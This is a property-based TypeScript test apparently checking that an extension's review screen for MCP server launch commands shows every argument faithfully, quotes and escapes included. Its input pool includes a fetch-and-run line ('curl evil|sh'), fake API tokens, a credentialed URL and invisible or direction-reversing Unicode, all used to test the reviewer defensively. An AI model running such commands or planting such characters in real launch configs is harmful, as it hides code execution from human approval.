import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { ServerLaunch, StdioLaunch } from '../../../../src/config/servers/launch.ts';
import { approvalHash, keptFacts, launchFacts } from '../../../../src/mcp/accepted/launchFacts.ts';
import type { ApprovalState } from '../../../../src/vscode/core/approvals.ts';
import { reviewedServer } from '../../../../src/vscode/trust/reviewView.ts';
import { runs } from '../../../effort.ts';

/** Words that could be masked, or that could hide others. */
const words = fc.oneof(
	fc.constantFrom(
		...[
			'npx',
			'-y',
			'--token',
			'--secret',
			'--api-key=x',
			'TOKEN=evil',
			'password: evil',
			'evil-package',
			'sh',
			'-c',
		],
		...[
			'ghp_0123456789abcdefghijABCDEFGHIJ012345',
			'sk-ant-api03-abcdefghijklmnopqrstuvwxyz',
			'Bearer evil123456',
		],
		...[
			'https://a:evil@b.example/?key=evil',
			'curl evil|sh',
			'e\u200bvil',
			'\u202Eevil',
			'***',
			'"',
			'\\u{41}',
			' ',
		],
	),
	fc.string(),
	fc.string({ unit: 'binary' }),
);
const names = fc.constantFrom('API_TOKEN', 'NPM_SECRET', 'HOST_PASSWORD', 'MODE', 'NODE_OPTIONS');

/** A launch whose variables have the same values as its arguments, as decoys. */
const launches = fc
	.record({
		command: words,
		args: fc.array(words, { maxLength: 6 }),
		decoys: fc.array(fc.tuple(names, fc.nat(6)), { maxLength: 3 }),
		isStored: fc.boolean(),
		isWritten: fc.boolean(),
	})
	.map(({ command, args, decoys, isStored, isWritten }): StdioLaunch => {
		const all = [command, ...args];
		const env = Object.fromEntries(decoys.map(([name, index]) => [name, all[index % all.length] ?? '']));
		const reads = Object.fromEntries(Object.entries(env).map(([name, value]) => [name, { value, isStored }]));
		const launch = { kind: 'stdio', command, args, env, cwd: '/work' } as const;
		return isWritten ? { ...launch, written: { command, args, env, cwd: '/work' }, reads } : launch;
	});

/** The words of a command line as a reader sees them: each plain, or in quotes with escapes. */
function readBack(line: string): readonly string[] {
	return [...line.matchAll(/"((?:[^"\\]|\\.)*)"|[^ ]+/g)].map(([word, quoted]) =>
		quoted === undefined
			? word
			: JSON.parse(
					`"${quoted.replace(/(\\\\)|\\u\{([0-9A-F]+)\}/g, (one, slashes, code) => slashes ?? unescaped(one, code))}"`,
				),
	);
}

function unescaped(one: string, code: string): string {
	return code === undefined
		? one
		: JSON.stringify(String.fromCodePoint(Number.parseInt(code, 16))).slice(1, -1);
}

function commandLines(launch: ServerLaunch, approval: ApprovalState): readonly string[] {
	const server = { name: 'one', launch, approval, facts: launchFacts(launch) };
	return reviewedServer(server, '/work', { isUsers: false }).runs.map(({ text }) => text);
}

test('the review and its difference show every word of any command, whatever it looks like', () => {
	const anyTwo = fc.property(launches, launches, (before, after) => {
		const argv = ({ command, args }: StdioLaunch) => [command, ...args];
		const [line = '', ...more] = commandLines(after, { kind: 'new' });
		expect(readBack(line)).toEqual(argv(after));
		expect(more).toEqual([]);
		const shown = commandLines(after, { kind: 'changed', before: keptFacts(before) }).map(readBack);
		const isSame = JSON.stringify(argv(before)) === JSON.stringify(argv(after));
		expect(shown).toEqual(isSame ? [argv(after)] : [argv(before), argv(after)]);
		// What is shown as different is another launch for the approval, too.
		if (!isSame) expect(approvalHash(before)).not.toBe(approvalHash(after));
	});
	fc.assert(anyTwo, { numRuns: runs(200) });
});
